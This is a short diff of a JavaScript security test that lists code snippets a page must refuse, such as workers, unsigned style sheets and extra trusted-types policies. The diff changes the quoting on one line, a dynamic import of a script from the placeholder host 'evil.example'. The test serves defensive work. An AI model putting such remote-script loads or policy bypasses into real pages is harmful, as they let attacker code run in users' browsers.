@@ -144,7 +144,7 @@ test('code on the page makes no code: no inline script, no eval, no address that
     'a style sheet that nobody signed': `document.createElement('link').href = '/remotes/x.css'`,
     'a worker': `new Worker('/remotes.json')`,
     'a worker of its own text': `new Worker(URL.createObjectURL(new Blob(['1'])))`,
-    'an import': `await import('https://evil.example/x.js')`,
+    'an import': `await import("https://evil.example/x.js")`,
     'a policy of its own': `trustedTypes.createPolicy('evil', { createHTML: (text) => text })`,
     'another default policy': `trustedTypes.createPolicy('default', { createHTML: (text) => text })`,
     'the shell’s policy': `trustedTypes.createPolicy('vungxanh-builds', { createHTML: (text) => text })`,
